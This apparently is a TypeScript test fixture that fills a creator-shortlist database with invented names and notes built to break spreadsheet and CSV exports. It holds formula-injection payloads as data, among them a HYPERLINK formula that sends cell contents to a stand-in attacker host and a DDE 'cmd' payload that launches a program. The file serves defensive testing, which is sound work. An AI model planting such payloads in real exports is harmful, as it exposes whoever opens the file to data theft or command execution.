/**
 * A small database of creators whose names and notes carry what spreadsheets and CSV parsers trip on: formula signs,
 * quotes, commas, line breaks, right-to-left text and marks. Invented names on the five platforms, stored through
 * the background's own ingest and shortlist code; the v4 entry fields (tags, rate, email, agency) are set on top.
 */
import { ingestReading } from '../../lib/background/ingest-reading';
import { addToShortlist, createShortlist } from '../../lib/background/shortlists';
import type { SourcedCount } from '../../lib/count';
import type { CastlistDatabase } from '../../lib/db/castlist-db';
import type { ShortlistEntryRow } from '../../lib/db/rows';
import { creatorKeyOf } from '../../lib/reading/keys';
import type { Platform, Reading } from '../../lib/reading/reading';
import { exact, rounded } from './background-fixtures';

export const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  '+1 (555) 010-9999, "the agency"',
  '-2+3',
  '@SUM(1;1)',
  '\tTabbed name',
  '\rCarriage name',
  'Line one\nline two, with "quotes"',
  '\u202E=1+1 hidden behind a right-to-left override',
  "'=already escaped-looking",
  'مرحبا، "عالم" = 1',
  'שלום, עולם',
  ' =leading space',
] as const;

export const NOW = Date.parse('2026-12-01T12:00:00Z');

interface CreatorSeed {
  platform: Platform;
  handle: string;
  name: string;
  url: string;
  followers: SourcedCount;
  id?: string;
}

export function creatorSeeds(): CreatorSeed[] {
  const platforms: Platform[] = ['youtube', 'tiktok', 'instagram', 'x', 'linkedin'];
  return HOSTILE_NAMES.map((name, index) => {
    const platform = platforms[index % platforms.length]!;
    const handle = `creator_${index}`;
    const url = {
      youtube: `https://www.youtube.com/@${handle}`,
      tiktok: `https://www.tiktok.com/@${handle}`,
      instagram: `https://www.instagram.com/${handle}/`,
      x: `https://x.com/${handle}`,
      linkedin: `https://www.linkedin.com/in/${handle}/`,
    }[platform];
    const followers = index % 2 === 0 ? rounded(1_200_000 + index, 1_150_000, 1_249_999, '1.2M') : exact(10_000 + index);
    return { platform, handle, name, url, followers, ...(platform === 'youtube' ? { id: `UC${'x'.repeat(20)}${index}` } : {}) };
  });
}

function profileReading(seed: CreatorSeed, readAt: string, followersDelta = 0): Reading {
  const followers = { ...seed.followers, value: seed.followers.value + followersDelta, min: seed.followers.min + followersDelta, max: seed.followers.max + followersDelta };
  return {
    platform: seed.platform,
    surface: 'profile',
    url: seed.url,
    readAt,
    lang: 'en',
    creator: { handle: seed.handle, name: seed.name, url: seed.url, verified: false, followers, posts: exact(42), ...(seed.id ? { id: seed.id } : {}) },
    posts: [
      {
        id: `${seed.handle}-post`,
        url: `${seed.url}#post`,
        // The background stores a post under the author its reading names (attribution), never by the page alone.
        author: { handle: seed.handle, name: seed.name, ...(seed.id ? { id: seed.id } : {}) },
        publishedAt: '2026-11-20T10:00:00.000Z',
        metrics: { views: exact(50_000), likes: rounded(1_200, 1_150, 1_249, '1.2K'), comments: exact(80), shares: exact(20) },
      },
    ],
    comments: [],
    problems: [],
  };
}

/**
 * Every seed creator read twice (a day apart; the odd ones lost followers), all on the list "Spring =launch" with
 * statuses, notes, tags and fields that carry payloads too. Returns the list's id and the creator keys in order.
 */
export async function populateShortlist(db: CastlistDatabase): Promise<{ shortlistId: string; keys: string[] }> {
  const seeds = creatorSeeds();
  for (const [index, seed] of seeds.entries()) {
    await ingestReading(db, { type: 'reading.capture', visitId: `visit-a-${index}`, reading: profileReading(seed, '2026-11-29T10:00:00.000Z') }, NOW);
    await ingestReading(
      db,
      { type: 'reading.capture', visitId: `visit-b-${index}`, reading: profileReading(seed, '2026-11-30T10:00:00.000Z', index % 2 ? -300 : 500) },
      NOW,
    );
  }
  const { id: shortlistId } = await createShortlist(db, { type: 'shortlist.create', name: 'Spring =launch' }, NOW);
  const keys = seeds.map((seed) => creatorKeyOf(seed.platform, seed)!);
  const statuses: ShortlistEntryRow['status'][] = ['candidate', 'contacted', 'negotiating', 'approved', 'rejected'];
  for (const [index, key] of keys.entries()) {
    const { id } = await addToShortlist(db, { type: 'shortlist.add', shortlistId, creatorKey: key }, NOW + index);
    await db.shortlistEntries.update(id, {
      status: statuses[index % statuses.length]!,
      notes: index % 3 === 0 ? `=cmd|' /C calc'!A0\nsecond line, "quoted"` : `note ${index}`,
      tags: index % 2 ? ['beauty', '@vip'] : [],
      fields: { rate: index % 2 ? '-500 EUR' : null, email: `c${index}@example.com`, agency: index % 4 ? null : '+Agency, Ltd.' },
      kpisAtAdd: index % 2 ? { er: 0.031, note: '=1+1' } : null,
    });
  }
  return { shortlistId, keys };
}
